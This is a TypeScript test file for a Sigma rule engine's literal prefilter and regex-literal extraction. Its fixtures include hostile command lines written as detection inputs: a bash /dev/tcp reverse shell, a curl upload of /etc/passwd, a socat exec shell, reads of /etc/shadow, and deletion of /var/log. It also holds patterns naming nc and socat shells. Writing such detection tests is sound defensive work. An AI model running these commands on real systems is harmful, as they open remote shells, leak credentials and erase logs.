/**
 * The literal prefilter may only skip rules that cannot match: literals hidden by quote removal,
 * case, wildcards or regex syntax must still let the rule through, and rules with nothing to
 * promise (`not` alone, a regex the literal reader does not vouch for) are always evaluated.
 */
import { describe, expect, it } from 'vitest';
import { compileRuleSet, evaluate } from '../../src/detect/sigma/index.ts';
import { LiteralIndex } from '../../src/detect/sigma/prefilter.ts';
import { caseSensitive, regexLiterals, regexNeeds } from '../../src/detect/sigma/regex-literals.ts';
import { hits, keywordRule, load, processRule } from './helpers.ts';

const sel = (body: string, condition = 'selection') =>
  processRule(`  selection:\n${body}\n  condition: ${condition}`);

describe('prefilter never hides a match', () => {
  it('a literal split by quotes or escapes is found after quote removal', () => {
    const rule = sel("    CommandLine|contains: 'curl http'");
    expect(hits(rule, "c''url http://x")).toBe(true);
    expect(hits(rule, '"c"u\\rl http://x')).toBe(true);
    const keyword = keywordRule("  keywords:\n    - '/dev/tcp/'\n  condition: keywords");
    expect(hits(keyword, 'bash -i >& /dev/t""cp/10.0.0.1/4444 0>&1')).toBe(true);
  });

  it('case differences, KELVIN SIGN and dotted capital I do not hide a literal', () => {
    const rule = sel("    CommandLine|contains: 'history -c'");
    expect(hits(rule, 'HISTORY -C')).toBe(true);
    // U+212A lowercases to `k`, as Sigma's case-insensitive compare sees it.
    expect(hits(sel("    CommandLine|contains: 'kill -9'"), '\u212Aill -9 1')).toBe(true);
    // U+0130 lowercases to `i` + U+0307: the literal `i` before it still counts.
    expect(hits(sel("    CommandLine|endswith: 'xi'"), 'echo X\u0130')).toBe(false);
    expect(hits(sel("    CommandLine|contains: 'echo x'"), 'ECHO X\u0130')).toBe(true);
  });

  it('literals around wildcards are the necessary ones', () => {
    expect(
      hits(sel("    CommandLine|contains: 'wg?t *--no-check'"), 'wget -q --no-check-certificate x'),
    ).toBe(true);
    expect(hits(sel("    CommandLine: '*/etc/sh?dow'"), 'cat /etc/shadow')).toBe(true);
    expect(hits(sel("    CommandLine: '*/etc/sh?dow'"), 'cat /etc/sh')).toBe(false);
  });

  it('a rule with a not-only condition is evaluated on every line', () => {
    const rule = processRule("  filter:\n    CommandLine|contains: 'ls'\n  condition: not filter");
    const { rules } = load(rule);
    const set = compileRuleSet(rules);
    expect(set.unanchored).toEqual([0]);
    expect(evaluate(set, { text: 'whoami' })).toHaveLength(1);
    expect(evaluate(set, { text: 'ls -la' })).toHaveLength(0);
  });

  it('every necessary group is required, from whichever field it comes', () => {
    const rule = sel("    Image|endswith: '/curl'\n    CommandLine|contains: '--upload-file'");
    expect(hits(rule, 'curl --upload-file /etc/passwd http://x')).toBe(true);
    expect(hits(rule, 'wget --upload-file x')).toBe(false);
    expect(hits(rule, 'curl -s x; echo --upload-file')).toBe(false); // both literals, not one event
    const either = processRule(
      "  a:\n    CommandLine|contains: 'alpha'\n  b:\n    CommandLine|contains: 'beta'\n  condition: a or b",
    );
    expect(hits(either, 'echo beta')).toBe(true);
  });

  it('|windash|contains|all keeps every dash variant as an alternative', () => {
    const rule = sel("    CommandLine|windash|contains|all:\n      - '-a'\n      - '-b'");
    expect(hits(rule, 'tool /a /b')).toBe(true);
    expect(hits(rule, 'tool -a -b')).toBe(true);
    expect(hits(rule, 'tool /a')).toBe(false);
  });

  it('a re-only rule is indexed by its literals and still matches case-folded forms', () => {
    const rule = sel("    CommandLine|re: '(?i)so(cat|cket)\\s+e'");
    const { rules } = load(rule);
    expect(rules[0]!.detection.anchorGroups).toEqual([['socat', 'socket']]);
    expect(hits(rule, 'SOCAT e:/bin/sh tcp:1.2.3.4:1')).toBe(true);
    // RE2 folds U+017F LATIN SMALL LONG S to `s` under (?i): the prefilter lets it through.
    expect(hits(rule, '\u017Focat e:/bin/sh')).toBe(true);
    expect(hits(rule, 'cat e:x')).toBe(false);
    // Case-sensitive: the prefilter folds, RE2 decides.
    expect(hits(sel("    CommandLine|re: 'Socat'"), 'socat x')).toBe(false);
    expect(hits(sel("    CommandLine|re: 'Socat'"), 'Socat x')).toBe(true);
  });

  it('a list of re values runs as one alternation with flags kept to each pattern', () => {
    const rule = sel("    CommandLine|re:\n      - '(?i)alpha'\n      - 'beta'");
    expect(hits(rule, 'echo ALPHA')).toBe(true);
    expect(hits(rule, 'echo BETA')).toBe(false);
    expect(hits(rule, 'echo beta')).toBe(true);
  });
});

describe('long contains lists (one automaton pass)', () => {
  const list = "    CommandLine|contains:\n      - 'alpha'\n      - 'beta'\n      - 'gamma'\n      - 'delta'";
  it('match any value, case-insensitively, beside characters outside ASCII', () => {
    expect(hits(sel(list), 'echo xxDELTAyy')).toBe(true);
    expect(hits(sel(list), 'echo \u00e9gamma\u00e9')).toBe(true);
    expect(hits(sel(list), 'echo g\u00e4mma delt')).toBe(false);
  });
  it('wildcard lists test only the values whose literal occurs, and always those without one', () => {
    const globs =
      "    CommandLine|contains:\n      - 'wget * -qo-'\n      - 'ch?d'\n      - 'caf\u00e9*x'\n      - 'SOCAT exec:*'";
    expect(hits(sel(globs), 'wget http://x -qO- -t 1')).toBe(true);
    expect(hits(sel(globs), 'chmod +x y')).toBe(false); // `ch?d` needs 4 characters
    expect(hits(sel(globs), 'echo chod')).toBe(true);
    expect(hits(sel(globs), 'echo CAF\u00c9 x')).toBe(true); // literal outside ASCII: always tested
    expect(hits(sel(globs), 'socat EXEC:/bin/sh')).toBe(true);
  });
  it('lists with wildcards keep the glob matcher', () => {
    const wild = `${list}\n      - 'ep?ilon'`;
    expect(hits(sel(wild), 'echo epsilon')).toBe(true);
    expect(hits(sel(wild), 'echo epilon')).toBe(false);
  });
});

describe('regexLiterals', () => {
  it('reads literal runs, alternatives and products of small groups', () => {
    expect(regexLiterals('-(W|R)\\s?x')).toEqual(['-w', '-r']);
    expect(regexLiterals('\\b(nc|ncat)\\b.*\\s-e')).toEqual(['-e']); // the more selective set
    expect(regexLiterals('\\b(nc|ncat)\\b.*\\s')).toEqual(['nc', 'ncat']);
    expect(regexLiterals('socket\\.socket\\(.*connect\\(')).toEqual(['socket.socket(']);
    expect(regexLiterals('a*bcd')).toEqual(['bcd']);
    expect(regexLiterals('ab{0,3}cd')).toEqual(['cd']);
    expect(regexLiterals('(?P<n>foo)bar|baz')).toEqual(['foobar', 'baz']);
  });
  it('promises nothing it cannot vouch for', () => {
    expect(regexLiterals('a|b|')).toBeNull(); // an empty branch matches anywhere
    expect(regexLiterals('(?=x)y')).toBeNull(); // lookaround
    expect(regexLiterals('\\Qa|b')).toBeNull(); // quoting
    expect(regexLiterals('x\\ny')).toBeNull(); // escapes other than punctuation and classes
    expect(regexLiterals('[a-z]+\\d*')).toBeNull();
    expect(regexLiterals('(abc)?')).toBeNull();
  });
});

describe('regexNeeds (the gate in front of RE2)', () => {
  it('reads every necessary set, most selective first, and keeps case when asked', () => {
    expect(regexNeeds('\\bfind\\s+/var/log\\b.*(-delete|\\brm\\b)')).toEqual([
      ['/var/log'],
      ['find'],
      ['-delete', 'rm'],
    ]);
    expect(regexNeeds('-(W|R)\\s?x')).toEqual([['-w', '-r'], ['x']]);
    expect(regexNeeds('-(W|R)\\s?x', false)).toEqual([['-W', '-R'], ['x']]);
    expect(regexNeeds('a|b|')).toBeNull();
  });
  it('treats a pattern as case-sensitive only without |i and without an inline i flag', () => {
    expect(caseSensitive('-(W|R)', false)).toBe(true);
    expect(caseSensitive('-(W|R)', true)).toBe(false);
    expect(caseSensitive('(?i)socat', false)).toBe(false);
    expect(caseSensitive('x(?mi:y)', false)).toBe(false);
  });
  it('a case-sensitive re skips RE2 on other cases, a case-insensitive one does not', () => {
    const cased = sel("    CommandLine|re: '-(W|R)\\s?([0-9a-fA-F]{2}\\s?){2,20}\\s'");
    expect(hits(cased, 'pnscan -W aa bb cc 10.0.0.0/8 22')).toBe(true);
    expect(hits(cased, 'pnscan -w aa bb cc 10.0.0.0/8 22')).toBe(false);
    const folded = sel("    CommandLine|re|i: '\\bfind\\s+/var/log\\b.*-delete'");
    expect(hits(folded, 'FIND /VAR/LOG -name x -DELETE')).toBe(true);
    expect(hits(folded, 'find /var/tmp -delete; ls /var/log')).toBe(false);
  });
});

describe('LiteralIndex', () => {
  it('scan folds case; has() without folding answers exactly on lowercased text', () => {
    const index = new LiteralIndex([['socat'], null, ['kill']]);
    const seen: number[] = [];
    index.scan('SoCaT and \u212Aill', (g) => seen.push(g));
    expect(seen.sort()).toEqual([0, 2]);
    expect(index.has('\u017Focat', true)).toBe(true);
    expect('\u017Focat'.toLowerCase().includes('socat')).toBe(false);
    expect(index.has('\u017Focat', false)).toBe(false);
  });
  it('hasAll needs a literal of every group', () => {
    const index = new LiteralIndex([['find'], ['/var/log'], ['-delete', 'rm']]);
    expect(index.hasAll('FIND /var/log -DELETE')).toBe(true);
    expect(index.hasAll('find /var/log -name x')).toBe(false);
    expect(new LiteralIndex([]).hasAll('x')).toBe(true);
  });
});
